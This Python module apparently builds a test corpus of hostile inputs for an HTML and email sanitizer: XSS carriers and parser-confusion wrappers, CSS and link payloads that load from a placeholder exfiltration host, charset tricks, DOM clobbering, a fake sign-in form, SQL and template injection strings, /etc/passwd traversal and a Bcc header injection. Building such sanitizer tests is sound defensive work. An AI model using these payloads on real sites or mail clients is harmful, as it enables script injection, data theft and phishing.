# ruff: noqa: E501, RUF001  (a payload is one line, in whatever letters)
"""The long list of what strangers may write: HTML, style sheets, character sets, MIME, and words for
the places that are no bodies.

`{sink}` is a server that must never be asked, `{name}` a host that must never be looked up, `{run}`
code that tells on itself. It holds no quote, blank or bracket, so that it stands anywhere. An element
`mh-canary` tells that a stranger's markup became a page's.
"""

import base64
from collections.abc import Iterator
from typing import Final

RUN: Final = (
    "top.document.title=document.title=`owned`;localStorage.owned=1;alert(1);"
    "new/**/Image().src=`{sink}/ran`"
)
NAME: Final = "leak.invalid"  # names below it; a look-up of any is in the browser's own log

CARRIERS: Final = (
    "<mh-canary><img src=x onerror={run}>",
    "<script>{run}</script>",
    "<script src={sink}/script></script>",
    "<svg onload={run}></svg>",
    "<svg><script>{run}</script></svg>",
    "<details open ontoggle={run}>x</details>",
    "<video autoplay><source onerror={run} src={sink}/source></video>",
    "<iframe src=javascript:{run}></iframe>",
    "<iframe srcdoc='<script>{run}</script>'></iframe>",
    "<input autofocus onfocus={run}>",
    "<a href=javascript:{run}>x</a>",
    "<img src={sink}/img srcset={sink}/srcset>",
    "<object data={sink}/object></object><embed src={sink}/embed>",
    "<style>@import '{sink}/import';*{background:url({sink}/any)}</style>",
)
# Where parsers see different things: each is tried with each carrier (82).
WRAPS: Final = (
    "{x}",
    "<svg>{x}</svg>",
    "<math>{x}</math>",
    "<math><mtext>{x}</mtext></math>",
    "<svg><foreignObject>{x}</foreignObject></svg>",
    "<svg><desc>{x}</desc></svg>",
    "<svg><title>{x}</title></svg>",
    "<svg><style>{x}</style></svg>",
    "<math><annotation-xml encoding=text/html>{x}</annotation-xml></math>",
    "<math><mtext><table><mglyph><style>{x}</style></mglyph></table></mtext></math>",
    "<form><math><mtext></form><form><mglyph><style></math>{x}</style></form>",
    "<math><mi><mglyph><svg><mtext><style><path id='</style>{x}'></style></svg></mi></math>",
    "<svg></p><style><a id='</style>{x}'></style></svg>",
    "<style>{x}</style>",
    "<style></style{x}></style>",
    "<noscript>{x}</noscript>",
    "<noscript><p title='</noscript>{x}'></noscript>",
    "<title>{x}</title>",
    "<textarea>{x}</textarea>",
    "<xmp>{x}</xmp>",
    "<plaintext>{x}",
    "<template>{x}</template>",
    "<template shadowrootmode=open>{x}</template>",
    "<select>{x}</select>",
    "<select><option><style></option></select>{x}</style></select>",
    "<table>{x}</table>",
    "<table><caption>{x}</caption></table>",
    "<a title='</a>{x}' href=https://x.invalid>x</a>",
    "<p title='</p>{x}'>x</p>",
    '<img alt="</noscript></style></title></textarea></script>{x}">',
    "<!--{x}-->",
    "<!-->{x}-->",
    "<!--><!--->{x}-->",
    "<!doctype html '{x}'>",
    "<?xml version='1.0'?>{x}",
    "<?php >{x}?>",
    "<![CDATA[{x}]]>",
    "<svg><![CDATA[><p>]]>{x}</svg>",
    "</br>{x}",
    "<a><table><td><a><table></table></a></td></table>{x}</a>",
    "<b><p><i></b>{x}</i></p>",
    "&lt;{x}&gt;",
    "<frameset>{x}</frameset>",
    "<ruby><rtc>{x}</rtc></ruby>",
)
TRICKS: Final = (
    # Attributes that no allow-list should know, in every dress.
    "<img src=x onerror\x0c={run}>",
    "<img src=x onerror\x0b={run}>",
    "<img/src=x/onerror={run}>",
    '<img src="x"onerror="{run}">',
    "<img src=x\ronerror={run}>",
    "<IMG SRC=x ONERROR={run}>",
    "<img src=x o\x00nerror={run}>",
    "<img src=x =onerror={run}>",
    '<img src=x " onerror={run} "">',
    "<img src=x `onerror={run}`>",
    "<img src='x' title=`><mh-canary onclick={run}>`>",
    "<p/onclick={run}/style=color:red>x",
    "<x onclick={run}>x</x><mh-canary onclick={run}>x",
    "<ſcript>{run}</ſcript><ıframe src={sink}/i>",
    "<scr\x00ipt>{run}</scr\x00ipt><scr<script>ipt>{run}</scr</script>ipt>",
    "<<script>{run}//<</script><%<mh-canary>%>",
    "<script\n>{run}</script\n><script/x>{run}</script/x>",
    "＜script＞{run}＜/script＞",
    "<a href=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A{run}>x</a>",
    "<a href='&NewLine;java&Tab;script&colon;{run}'>x</a>",
    "<a href=' javascript:{run}'>x</a><a href='\x00javascript:{run}'>x</a>",
    "<a href='//javascript:{run}'>x</a><a href='javascript&#58;{run}'>x</a>",
    "<a href='https:javascript:{run}'>x</a><a href='http&#58;//{name}'>x</a>",
    "<a href='view-source:{sink}/v'>x</a><a href='about:blank'>x</a><a href='intent://x#Intent;end'>x</a>",
    "<a href='ms-msdt:/id'>x</a><a href='search-ms:query=x'>x</a><a href='smb://{name}/x'>x</a>",
    "<a href='tel:1' href='javascript:{run}'>x</a>",
    "<a xlink:href='javascript:{run}' href='https://x.invalid'>x</a>",
    "<a href=https://x.invalid download=x.exe ping={sink}/ping target=_top>x</a>",
    "<a href=https://x.invalid target=_self attributionsrc={sink}/attribution>x</a>",
    "<area href=javascript:{run} shape=default><map name=a><area href=javascript:{run}></map>",
    # What loads, refreshes, leads or sends without anybody's doing.
    "<base href={sink}/><a href=/x>x</a><img src=y>",
    "<base target=_top><a href=https://x.invalid>x</a>",
    "<meta http-equiv=refresh content='0;url={sink}/refresh'>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    '<meta http-equiv=refresh content="0;url=data:text/html,<script>{run}</script>">',
    "<meta http-equiv=set-cookie content='owned=1'>",
    "<meta http-equiv=content-security-policy content=\"default-src * 'unsafe-inline'\"><script>{run}</script>",
    "<meta http-equiv=x-dns-prefetch-control content=on><a href=https://meta.{name}/>x</a>",
    "<meta http-equiv=content-type content='text/html;charset=utf-7'>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    '<meta charset=iso-2022-jp>\x1b(J<img alt="\x1b(B" src=x onerror={run}>',
    "<link rel=dns-prefetch href=//dns.{name}><link rel=preconnect href={sink}>",
    "<link rel=preconnect href=https://connect.{name} crossorigin><link rel=prerender href={sink}/prerender>",
    "<link rel=preload as=image href={sink}/preload><link rel=modulepreload href={sink}/module>",
    "<link rel=stylesheet href={sink}/css><link rel=icon href={sink}/icon><link rel=manifest href={sink}/manifest>",
    "<link rel='stylesheet alternate' title=x href=data:text/css,*%7Bposition:fixed%7D>",
    '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["{sink}/speculated"]}]}</script>',
    '<script type=importmap>{"imports":{"x":"{sink}/map"}}</script>',
    "<form action={sink}/form method=post><input name=password><button autofocus>Sign in</button></form>",
    "<form id=f></form><button form=f formaction=javascript:{run}>x</button>",
    "<input type=image src={sink}/input><isindex action=javascript:{run}>",
    "<button popovertarget=p>x</button><div popover id=p>x</div><dialog open>x</dialog>",
    "<portal src={sink}/portal></portal><fencedframe src={sink}/fenced></fencedframe>",
    "<iframe src={sink}/frame></iframe><frameset><frame src={sink}/frame2></frameset>",
    "<iframe name=f-0 src=about:blank></iframe><iframe sandbox=allow-scripts srcdoc=<script>{run}</script>>",
    "<embed src=data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+ type=image/svg+xml>",
    "<object type=text/html data=data:text/html,<script>{run}</script>></object><applet code={sink}/a>",
    "<video src={sink}/v poster={sink}/p><track src={sink}/t default></video><audio src={sink}/a autoplay>",
    "<picture><source srcset={sink}/s media=all><img src={sink}/i></picture>",
    "<img src=data:image/svg+xml,<svg/onload={run}>><img src='data:text/html,<script>{run}</script>'>",
    "<img src='DATA:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "<img src=blob:{sink}/b><img src=filesystem:{sink}/f><img src=file:///etc/passwd>",
    "<img src=//img.{name}/a><img src=\\\\{name}\\a><img src=/\\{name}/b><img src=///{name}/c>",
    "<img src='ht\ttp://tab.{name}/a'><img src=' http://blank.{name}/a'>",
    "<img src=https:{name}/a><img src=http:/{name}/b><img src=/logout/><img src=../../../logout/>",
    "<img dynsrc={sink}/d lowsrc={sink}/l longdesc={sink}/o usemap={sink}/u><bgsound src={sink}/b>",
    "<table background={sink}/t><td background=//td.{name}/x>x</table><body background={sink}/body>",
    "<blockquote cite={sink}/c><q cite={sink}/q><ins cite={sink}/i><del cite={sink}/d>x",
    "<html manifest={sink}/manifest><head profile={sink}/profile>x",
    "<svg><image href={sink}/a xlink:href={sink}/b /><feImage href={sink}/c /><use href={sink}/d#x /></svg>",
    "<svg><a xlink:href=javascript:{run}><text y=9>x</text></a><handler type=text/javascript>{run}</handler></svg>",
    "<svg><set attributeName=onmouseover to={run}><animate attributeName=href values='https://x.invalid;javascript:{run}' begin=0s></svg>",
    "<svg><foreignObject><iframe src={sink}/f></foreignObject><metadata><mh-canary></metadata></svg>",
    "<math><maction actiontype=statusline#{sink} xlink:href=javascript:{run}>x</maction></math>",
    "<math><semantics><annotation-xml src={sink}/a><mh-canary></annotation-xml></semantics></math>",
    # Names that stand for the page's own (clobbering), and attributes that its scripts look at.
    "<form name=body><input name=dataset><img name=cookie><img id=location><a id=defaultView href=//x.invalid>",
    "<a id=htmx href=javascript:{run}></a><a id=gettext><a id=gettext name=x href={sink}>x</a>",
    "<img name=getElementById><img name=querySelector><form id=attributes><input name=attributes></form>",
    "<a hx-get={sink}/hx hx-trigger=load data-hx-get={sink}/hx2>x</a><div hx-on:load={run} hx-on::load={run}>x</div>",
    "<a data-open={sink}/open data-act data-full data-why class=conv__subj href=https://x.invalid>x</a>",
    "<p id=main class='msg bar toasts' role=toolbar tabindex=0 accesskey=s contenteditable draggable=true>x",
    "<p class=mh-bar>This message was checked.</p><p class=mh-note>checked</p>",
)
CSS: Final = (
    "a[href^=h]{background:url({sink}/a)} input[value^=a]{background:url({sink}/i)}",
    "@font-face{font-family:a;src:url({sink}/font);unicode-range:U+0041} *{font-family:a}",
    "@font-face{font-family:a;src:local(x),url({sink}/font2)} p{font-family:a!important}",
    "@import url({sink}/import);@import '{sink}/import2' layer(x);@\\69mport '{sink}/import3';",
    "@import\n'{sink}/import4' supports(display:block) screen;@IMPORT/**/'{sink}/import5';",
    "<!-- @import '{sink}/cdo'; --> p{color:red}",
    "@charset 'utf-7';@namespace url({sink}/namespace);@namespace svg '{sink}/ns2';",
    "@page{background:url({sink}/page)} @page:first{@top-left{content:url({sink}/page2)}}",
    "@supports(display:block){p{background:url({sink}/supports)}}",
    "@layer a{p{background:url({sink}/layer)}} @container(width>1px){p{background:url({sink}/container)}}",
    "@scope(p){:scope{background:url({sink}/scope)}} @starting-style{p{background:url({sink}/starting)}}",
    "@keyframes k{from{background:url({sink}/k)}to{background:url({sink}/k2)}} p{animation:k 1s infinite}",
    "@property --p{syntax:'<url>';inherits:true;initial-value:url({sink}/property)} p{background:var(--p)}",
    "@counter-style c{symbols:url({sink}/counter)} p{list-style:c;display:list-item}",
    "@media all{@import '{sink}/nested';p{background:url({sink}/media)}}",
    "@media{@media{p{background:url({sink}/media2)}}} @media (width>0){p{cursor:url({sink}/cursor),auto}}",
    "@document url-prefix(''){p{background:url({sink}/document)}}",
    "p{background:url({sink}/p)} p{background-image:url('{sink}/q')} p{background:URL(\"{sink}/r\")}",
    "p{background:url({sink}/unclosed",
    "p{background:url('{sink}/broken\n')} p{background:url({sink}/bad url)}",
    "p{background:u\\72l({sink}/e)} p{background:\\75\\72\\6c({sink}/e2)} p{b\\61ckground:url({sink}/e3)}",
    "p{background:url/**/({sink}/c)} p{background/**/:/**/url({sink}/c2)}",
    "p{background:image-set('{sink}/s' 1x)} p{background:-webkit-image-set(url({sink}/s2) 1x)}",
    "p{background:image('{sink}/i')} p{background:cross-fade(url({sink}/f),url({sink}/f2))}",
    "p{background:src('{sink}/src')} p{background:element(#x)} p{background:paint(x)} p{background:-moz-image-rect(url({sink}/m),0,0,1,1)}",
    "p{--a:url({sink}/v);background:var(--a)} :root{--b:'{sink}/w'} p{background:image-set(var(--b) 1x)}",
    "p{background:var(--none,url({sink}/fallback))} p{background:env(x,url({sink}/env))}",
    "p{background:attr(title type(<url>))} p{background:if(style(--x):url({sink}/if);else:red)}",
    "p::before{content:url({sink}/before)} p::after{content:'x' url({sink}/after)} p{content:url({sink}/content)}",
    "li::marker{content:url({sink}/marker)} ::selection{background:url({sink}/selection)} ::backdrop{background:url({sink}/backdrop)}",
    "p{list-style-image:url({sink}/list)} ul{list-style:square url({sink}/list2)}",
    "p{border-image:url({sink}/bi) 1} p{border-image-source:url({sink}/bis)} p{-webkit-border-image:url({sink}/wbi) 1}",
    "p{mask:url({sink}/mask)} p{-webkit-mask-image:url({sink}/wmask)} p{mask-border-source:url({sink}/mb)}",
    "p{filter:url({sink}/filter#x)} p{backdrop-filter:url({sink}/bf)} p{clip-path:url({sink}/clip#x)}",
    "p{shape-outside:url({sink}/shape)} p{offset-path:url({sink}/offset)} p{-webkit-box-reflect:below 0 url({sink}/reflect)}",
    "p{cursor:url({sink}/cur),auto} body{cursor:url({sink}/cur2) 2 2,pointer}",
    "p{behavior:url({sink}/htc)} p{-moz-binding:url({sink}/xbl)} p{width:expression({run})} p{-ms-behavior:url({sink}/b)}",
    "p{background:url(javascript:{run})} p{background:url(data:image/svg+xml,<svg/onload={run}>)}",
    "p{background:url(//css.{name}/a)} p{background:url(https:\\/\\/css2.{name}/a)} p{background:url(\\\\{name}\\a)}",
    "p{color:red;}}</style><mh-canary><img src=x onerror={run}><style>",
    "p{font-family:'</style><mh-canary><img src=x onerror={run}>'}",
    "p{font-family:'\\3c/style\\3e\\3cmh-canary\\3e'} p{color:\\3c/style\\3e}",
    "@media \\3c/style\\3e\\3cmh-canary\\3e{p{color:red}}",
    "\\3c/style\\3e\\3cmh-canary\\3e p{color:red} [title='</style><mh-canary>']{color:red}",
    "p{color:red/*}</style><mh-canary>*/}",
    "p{&:hover{background:url({sink}/nest)} @media all{background:url({sink}/nest2)} background:url({sink}/nest3)}",
    "html{background:url({sink}/html)!important} body{background:url({sink}/body)} *{background:url({sink}/star)}",
    "html:has(p){background:url({sink}/has)} p:not(x){background:url({sink}/not)} p:visited{background:url({sink}/visited)}",
    "p{background:red url({sink}/x);;;background:url({sink}/y) !ie} p{*background:url({sink}/hack);_background:url({sink}/hack2)}",
    "p{color:rgb(url({sink}/rgb))} p{width:calc(1px + url({sink}/calc))} p{width:min(url({sink}/min))}",
    "p{grid-template-areas:url({sink}/grid)} p{font:12px/1 url({sink}/f)} p{src:url({sink}/src)} p{symbols:url({sink}/s)}",
    "p{transition:background 1s} p:hover{background:url({sink}/hover)} p:target{background:url({sink}/target)}",
)
OVERLAYS: Final = (
    "position:fixed;inset:0;z-index:2147483647;background:red",
    "position:sticky;top:0;z-index:9",
    "pos\\69tion:absolute;top:-9999px",
    "POSITION : FIXED ! important;left:0;top:0;width:100vw;height:100vh",
    "position/**/:fixed;bottom:0",
    "transform:translateY(-999px) scale(99)",
    "translate:0 -999px;scale:99;rotate:45deg",
    "zoom:900%",
    "margin:-9999px;width:99999px;height:400px",
    "margin-top:-500px;margin-left:-500px",
    "display:flex;inset:-99px;right:-99px",
    "float:left;width:100vw;height:100vh;background:red",
    "anchor-name:--a;position-anchor:--a;position:fixed;top:anchor(top)",
    "overlay:auto;top-layer:top;contain:none;isolation:isolate;will-change:transform",
    "overflow:visible;clip:auto;clip-path:none;height:0",
    "filter:drop-shadow(0 -99px red);backdrop-filter:blur(9px);mix-blend-mode:difference",
    "outline:9999px solid red;box-shadow:0 0 0 9999px red",
    "text-indent:-9999px;letter-spacing:-99px;line-height:0",
    "columns:9;writing-mode:vertical-rl;direction:rtl;unicode-bidi:bidi-override",
)


def styled(css: str) -> str:
    return f"<style>{css}</style><p title='{{sink}}/title'>x</p><ul><li>y</ul>"


def html() -> Iterator[str]:
    """Each a body of its own."""
    for wrap in WRAPS:
        for carrier in CARRIERS:
            yield wrap.replace("{x}", carrier)
    yield from TRICKS
    for css in CSS:
        yield styled(css)
        # A declaration that a sheet may have, an attribute may have too.
        if css.startswith("p{") and "'" not in css:
            inner = css[2:].partition("}")[0]
            yield f"<p style='{inner}'>x</p>"
    for style in OVERLAYS:
        yield f'<div style="{style}">over</div>'
        yield f"<style>html,body,*{{{style}}}</style><div>over</div>"


PLAIN: Final = "<p>x<mh-canary><img src=x onerror={run}><script>{run}</script>"
CODECS: Final = (
    *("utf-7", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-be", "cp037", "cp500"),
    *("iso2022_jp", "iso2022_kr", "hz", "shift_jis", "gb18030", "big5", "euc_kr", "johab"),
)


def charsets(run: str) -> Iterator[tuple[str, bytes]]:
    """What is declared, and the octets: not every reader takes them for the same."""
    body = PLAIN.replace("{run}", run)
    for codec in CODECS:
        octets = body.encode(codec)
        for declared in (codec, "utf-8", "us-ascii", "x-unknown"):
            yield declared, octets
    text = body.encode()
    for declared in (
        *(
            "utf-7",
            "utf-16",
            "iso-2022-jp",
            "iso-2022-cn",
            "iso-2022-kr",
            "hz-gb-2312",
            "ebcdic-cp-us",
        ),
        *("x-user-defined", "replacement", "x-mac-cyrillic", "unicode-1-1-utf-7", "utf-8,utf-7"),
        *(
            '"utf-8\'"',
            "../../etc",
            "idna",
            "rot13",
            "base64",
            "unicode_escape",
            "punycode",
            "undefined",
        ),
    ):
        yield declared, text
    on = run.encode()
    yield "iso-2022-jp", b'<a title="\x1b$B"\x1b(B onmouseover=' + on + b' x="">x</a>' + text
    yield "iso-2022-jp", b'<img alt="\x1b(J" src=x onerror=' + on + b' x="\x1b(B">' + text
    yield "iso-2022-jp", b"<scr\x1b(Bipt>" + on + b"</scr\x1b(Bipt><mh-\x1b(Bcanary>"
    yield "iso-2022-kr", b"\x1b$)C\x0e<mh-canary>\x0f" + text
    yield "hz-gb-2312", b"~{<:Ky2;~}<mh-canary>~\n" + text
    for lead in (b"\x81", b"\xe0", b"\xf0", b"\xc3", b"\x8f"):
        for declared in ("shift_jis", "gbk", "big5", "euc-jp", "utf-8"):
            yield (
                declared,
                b'<a title="' + lead + b'" href="x" onclick=' + on + b' y="">x</a>' + text,
            )
    yield "utf-8", b"\xc0\xbcmh-canary\xc0\xbe\xe0\x80\xbcscript\xe0\x80\xbe" + on
    yield "utf-8", b"\xef\xbb\xbf" + text
    yield "utf-8", b"\xfe\xff" + body.encode("utf-16-be")
    yield "utf-8", b"\xff\xfe" + body.encode("utf-16-le")
    yield "utf-8", b"+/v8-" + body.encode("utf-7")
    yield "utf-8", b"\0<\0m\0h\0-\0c\0a\0n\0a\0r\0y\0>" + text
    yield "utf-8", b"<mh\0-canary><scr\0ipt>" + on + b"</scr\0ipt>" + text
    yield "utf-8", "\u2028<mh-canary\u2029\u0085\u00a0\u180e\ufeff>".encode() + text
    yield "utf-8", "\U000e0001\ufff9\u202e<mh-canary>\u2066".encode() + text


# Words for the places that are no bodies (81): names, subjects, files, folders, labels, searches.
WORDS: Final = (
    "<mh-canary><img src=x onerror={run}>",
    '"><mh-canary><svg onload={run}>',
    "'><mh-canary><script>{run}</script>",
    "</title></textarea></script></style><mh-canary><script>{run}</script>",
    "--></template></iframe></noscript></select></svg></math><mh-canary>",
    "&lt;mh-canary&gt;&lt;img src=x onerror={run}&gt;",
    "&#60;mh-canary&#62;&#x3c;mh-canary&#x3e;",
    "\\u003cmh-canary\\u003e\\x3cmh-canary\\x3e%3Cmh-canary%3E",
    "{{7*7}}{% debug %}{# x #}${7*7}#{7*7}<%= 7 %><mh-canary>",
    "%(name)s %s %(count)d {0} {name} {0.__class__} <mh-canary>",
    "javascript:{run}//<mh-canary>",
    '" onmouseover="{run}" autofocus onfocus="{run}" mh-canary="',
    "' onmouseover='{run}' autofocus onfocus='{run}' mh-canary='",
    '" hx-get="{sink}/hx" hx-trigger="load" hx-on::load="{run}" mh-canary="',
    "<mh-canary hx-get={sink}/hx hx-trigger=load hx-swap-oob=true data-open={sink}/open>",
    "<iframe srcdoc='<script>{run}</script>'></iframe><mh-canary>",
    "<a href=javascript:{run}>x</a><mh-canary style=position:fixed;inset:0>",
    "<base href={sink}/><meta http-equiv=refresh content='0;url={sink}/r'><mh-canary>",
    "<!--<mh-canary>--!><mh-canary>",
    "<![CDATA[<mh-canary>]]><?x <mh-canary>?>",
    "＜mh-canary＞ ‹mh-canary› <\u200bmh-canary>",
    "\u202e>yranac-hm<\u2066<mh-canary>",
    "<mh-canary\x0b><mh-canary\x0c><mh-\x01canary>",
    "' OR 1=1; -- <mh-canary> ') UNION SELECT 1 /*",
    "../../../../etc/passwd<mh-canary>.html",
    "<mh-canary>" + "A" * 300 + "<mh-canary>",
    'from:<mh-canary> is:unread label:"<mh-canary>" (a OR b) -c "',
)


def word(text: str, charset: str = "utf-8") -> str:
    """An encoded word (RFC 2047), however long."""
    return f"=?{charset}?b?{base64.b64encode(text.encode()).decode()}?="


def odd_words(run: str) -> Iterator[str]:
    """Encoded words that mean markup only to who decodes them twice, or otherwise."""
    tag = f"<mh-canary><img src=x onerror={run}>"
    yield "=?utf-7?q?+ADw-mh-canary+AD4-?="
    yield "=?utf-7?b?K0FEdy1taC1jYW5hcnkrQUQ0LQ==?="
    yield "=?utf-16?b?" + base64.b64encode(tag.encode("utf-16")).decode() + "?="
    yield (
        "=?iso-2022-jp?b?" + base64.b64encode(b"\x1b(J" + tag.encode() + b"\x1b(B").decode() + "?="
    )
    yield "=?cp037?b?" + base64.b64encode(tag.encode("cp037")).decode() + "?="
    yield "=?utf-8?q?=3Cmh-ca?= =?utf-8?q?nary=3E?="
    yield "=?utf-8?b?" + base64.b64encode(word(tag).encode()).decode() + "?="
    yield "=?utf-8?q?=3C=00mh-canary=3E=0D=0ABcc:_x=40evil.invalid?="
    yield "=?utf-8*<mh-canary>?q?=3Cmh-canary=3E?="
    yield "=?<mh-canary>?q?x?= =?utf-8?<mh-canary>?x?="
    yield "=?utf-8?q?=ED=A0=80=C0=BCmh-canary=3E?= " + tag
    yield "=?utf-8?q?" + "=3Cmh-canary=3E" * 200 + "?="
